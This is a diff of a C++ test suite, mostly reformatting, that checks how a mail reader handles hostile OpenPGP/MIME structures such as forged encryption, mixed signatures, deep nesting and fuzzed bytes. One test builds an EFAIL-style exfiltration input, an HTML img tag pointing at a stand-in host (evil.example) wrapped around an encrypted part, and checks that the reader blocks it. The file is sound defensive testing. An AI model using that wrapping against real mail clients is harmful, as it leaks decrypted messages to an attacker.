@@ -1,8 +1,7 @@
 // "Hostile mail: what must come out", as far as the structure of the mail decides.
-#include "letters.hpp"
-
 #include "../openpgp/gnupg_world.hpp"
 #include "core/text.hpp"
+#include "letters.hpp"
 
 #include <catch2/catch.hpp>
 #include <fmt/core.h>
@@ -19,8 +18,12 @@ namespace {
 
 const std::string secret = "The pump's password is 1234.\n";
 
-bool shows(const Read& read, std::string_view text) { return read.inspection.text.find(text) != std::string::npos; }
-const reader::Protection& protection(const Read& read) { return read.inspection.protection; }
+bool shows(const Read& read, std::string_view text) {
+  return read.inspection.text.find(text) != std::string::npos;
+}
+const reader::Protection& protection(const Read& read) {
+  return read.inspection.protection;
+}
 std::vector<std::string> everybody() {
   const World& world = World::get();
   return {world.certificate(world.reporter), world.certificate(world.stranger)};
@@ -36,8 +39,11 @@ TEST_CASE("Cleartext that failed its integrity check is never shown") {
   std::string message;
   for (const auto line : split(armour, '\n')) {
     if (line.starts_with("Comment:")) continue;
-    if (line.find("ARMORED FILE") != std::string_view::npos) message += line.starts_with("-----BEGIN") ? "-----BEGIN PGP MESSAGE-----\n" : "-----END PGP MESSAGE-----\n";
-    else message += std::string(line) + "\n";
+    if (line.find("ARMORED FILE") != std::string_view::npos)
+      message +=
+          line.starts_with("-----BEGIN") ? "-----BEGIN PGP MESSAGE-----\n" : "-----END PGP MESSAGE-----\n";
+    else
+      message += std::string(line) + "\n";
   }
   for (const auto& body : {encrypted_part(message), plain_part(message)}) {
     const Read read = read_mail(header() + body);
@@ -51,7 +57,9 @@ TEST_CASE("Cleartext that failed its integrity check is never shown") {
 
 TEST_CASE("What only claims to be encrypted is shown as not encrypted") {
   const World& world = World::get();
-  const Read read = read_mail(header() + encrypted_part(testing::gpg(world.others, "-a -s -u " + world.reporter, plain_part(secret))), everybody());
+  const Read read = read_mail(
+      header() + encrypted_part(testing::gpg(world.others, "-a -s -u " + world.reporter, plain_part(secret))),
+      everybody());
   CHECK(shows(read, "1234"));
   CHECK_FALSE(protection(read).encrypted);
   CHECK(protection(read).decryption == Decryption::none);
@@ -63,7 +71,8 @@ TEST_CASE("What only claims to be encrypted is shown as not encrypted") {
 TEST_CASE("Text beside a signed part is not signed") {
   const World& world = World::get();
   const std::string good = signed_part(plain_part(secret), world.reporter);
-  const Read footer = read_mail(header() + multipart("multipart/mixed", {good, plain_part("Pay to another account.\n")}), everybody());
+  const Read footer = read_mail(
+      header() + multipart("multipart/mixed", {good, plain_part("Pay to another account.\n")}), everybody());
   CHECK(shows(footer, "1234"));
   CHECK(shows(footer, "another account"));
   CHECK(protection(footer).partial);
@@ -72,15 +81,23 @@ TEST_CASE("Text beside a signed part is not signed") {
 
   // A third part inside multipart/signed, one that is not closed: then nothing of it is signed.
   const std::string entity = plain_part(secret);
-  const std::string signature = "Content-Type: application/pgp-signature\r\n\r\n" + crlf(world.detached(entity, world.reporter));
+  const std::string signature =
+      "Content-Type: application/pgp-signature\r\n\r\n" + crlf(world.detached(entity, world.reporter));
   const std::string type = "multipart/signed; protocol=\"application/pgp-signature\"";
-  CHECK(protection(read_mail(header() + multipart(type, {entity, signature, plain_part("more\n")}), everybody())).signature == SignatureState::none);
-  CHECK(protection(read_mail(header() + multipart(type, {entity, signature}, false), everybody())).signature == SignatureState::none);
+  CHECK(protection(
+            read_mail(header() + multipart(type, {entity, signature, plain_part("more\n")}), everybody()))
+            .signature == SignatureState::none);
+  CHECK(
+      protection(read_mail(header() + multipart(type, {entity, signature}, false), everybody())).signature ==
+      SignatureState::none);
 }
 
 TEST_CASE("Signatures of two people side by side are good for neither") {
   const World& world = World::get();
-  const Read read = read_mail(header() + multipart("multipart/mixed", {signed_part(plain_part("one\n"), world.reporter), signed_part(plain_part("two\n"), world.stranger)}), everybody());
+  const Read read =
+      read_mail(header() + multipart("multipart/mixed", {signed_part(plain_part("one\n"), world.reporter),
+                                                         signed_part(plain_part("two\n"), world.stranger)}),
+                everybody());
   CHECK(protection(read).partial);
   CHECK(protection(read).signature != SignatureState::good);
   CHECK_FALSE(protection(read).signer_is_sender);
@@ -95,7 +112,8 @@ TEST_CASE("The outermost signature decides") {
   CHECK(protection(encrypted_in_signed).signature == SignatureState::good);
   CHECK(protection(encrypted_in_signed).signer == world.stranger);
   CHECK_FALSE(protection(encrypted_in_signed).signer_is_sender);
-  const Read thrice = read_mail(header() + encrypted_part(world.sealed(signed_part(inner, world.stranger))), everybody());
+  const Read thrice =
+      read_mail(header() + encrypted_part(world.sealed(signed_part(inner, world.stranger))), everybody());
   CHECK(shows(thrice, "1234"));
   CHECK(protection(thrice).signer == world.stranger);
   CHECK(thrice.rounds == 2); // signed text is read on before its signature is checked
@@ -104,12 +122,16 @@ TEST_CASE("The outermost signature decides") {
 TEST_CASE("Ciphertext wrapped in HTML or hidden in related parts never joins the text around it") {
   const World& world = World::get();
   const std::string html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
-  const Read efail = read_mail(header() + multipart("multipart/mixed", {html, encrypted_part(world.sealed(plain_part(secret))), "Content-Type: text/html\r\n\r\n\">"}));
+  const Read efail = read_mail(
+      header() + multipart("multipart/mixed", {html, encrypted_part(world.sealed(plain_part(secret))),
+                                               "Content-Type: text/html\r\n\r\n\">"}));
   CHECK(shows(efail, "1234"));
   CHECK(protection(efail).partial);
   const auto at = efail.inspection.text.find("1234");
   CHECK(efail.inspection.text.rfind("[encrypted]", at) != std::string::npos);
-  const Read covert = read_mail(header() + multipart("multipart/related", {plain_part("Can you answer this?\n"), encrypted_part(world.sealed(plain_part(secret)))}));
+  const Read covert = read_mail(
+      header() + multipart("multipart/related", {plain_part("Can you answer this?\n"),
+                                                 encrypted_part(world.sealed(plain_part(secret)))}));
   CHECK(protection(covert).partial);
   CHECK(shows(covert, "[not encrypted]"));
 }
@@ -117,7 +139,8 @@ TEST_CASE("Ciphertext wrapped in HTML or hidden in related parts never joins the
 TEST_CASE("Protection nested without end is followed to a depth of four") {
   const World& world = World::get();
   std::string entity = plain_part(secret);
-  for (int i = 0; i < 6; ++i) entity = encrypted_part(world.sealed(entity));
+  for (int i = 0; i < 6; ++i)
+    entity = encrypted_part(world.sealed(entity));
   const Read read = read_mail(header() + entity);
   CHECK_FALSE(shows(read, "1234"));
   CHECK(read.openings.size() == 4);
@@ -128,7 +151,8 @@ TEST_CASE("Of a hundred blocks sixteen are opened") {
   const World& world = World::get();
   const std::string block = world.sealed("one\n");
   std::vector<std::string> parts;
-  for (int i = 0; i < 100; ++i) parts.push_back(plain_part(block));
+  for (int i = 0; i < 100; ++i)
+    parts.push_back(plain_part(block));
   const Read read = read_mail(header() + multipart("multipart/mixed", parts));
   CHECK(read.openings.size() == 16);
   CHECK(protection(read).cause);
@@ -136,7 +160,8 @@ TEST_CASE("Of a hundred blocks sixteen are opened") {
 
 TEST_CASE("A mail beyond the limits is too big, and deep nesting does no harm") {
   std::string deep = plain_part("deep\n");
-  for (int i = 0; i < 40; ++i) deep = multipart("multipart/mixed", {deep});
+  for (int i = 0; i < 40; ++i)
+    deep = multipart("multipart/mixed", {deep});
   const std::string raw = header() + deep;
   reader::Task task;
   task.raw = raw;
@@ -152,12 +177,16 @@ TEST_CASE("A mail beyond the limits is too big, and deep nesting does no harm") 
 
 TEST_CASE("Any bytes are read without harm") {
   const World& world = World::get();
-  const std::string honest = header() + multipart("multipart/mixed", {encrypted_part(world.sealed(plain_part(secret))), signed_part(plain_part("x\n"), world.reporter),
-      plain_part(world.sealed(secret)), "Content-Type: message/rfc822\r\n\r\nSubject: x\r\n\r\nhello\r\n"});
+  const std::string honest =
+      header() + multipart("multipart/mixed",
+                           {encrypted_part(world.sealed(plain_part(secret))),
+                            signed_part(plain_part("x\n"), world.reporter), plain_part(world.sealed(secret)),
+                            "Content-Type: message/rfc822\r\n\r\nSubject: x\r\n\r\nhello\r\n"});
   std::mt19937 random(3);
   for (int round = 0; round < 300; ++round) {
     std::string changed = honest;
-    for (int i = 0; i < 10; ++i) changed[random() % changed.size()] = static_cast<char>(random());
+    for (int i = 0; i < 10; ++i)
+      changed[random() % changed.size()] = static_cast<char>(random());
     reader::Task task;
     task.raw = changed;
     const auto reading = reader::inspect(task);
@@ -172,9 +201,11 @@ TEST_CASE("Any bytes are read without harm") {
 
 TEST_CASE("Hostile structures are read in bounded time") {
   std::string blocks;
-  while (blocks.size() < 1u << 20) blocks += "-----BEGIN PGP MESSAGE-----\n\n" + std::string(64, 'A') + "\n-----END PGP MESSAGE-----\n";
+  while (blocks.size() < 1u << 20)
+    blocks += "-----BEGIN PGP MESSAGE-----\n\n" + std::string(64, 'A') + "\n-----END PGP MESSAGE-----\n";
   std::string alternatives = plain_part(std::string(100000, 'x'));
-  for (int i = 0; i < 28; ++i) alternatives = multipart("multipart/alternative", {alternatives, plain_part("a\n")});
+  for (int i = 0; i < 28; ++i)
+    alternatives = multipart("multipart/alternative", {alternatives, plain_part("a\n")});
   for (const auto& body : {plain_part(blocks), alternatives}) {
     const std::string raw = header() + body;
     reader::Task task;
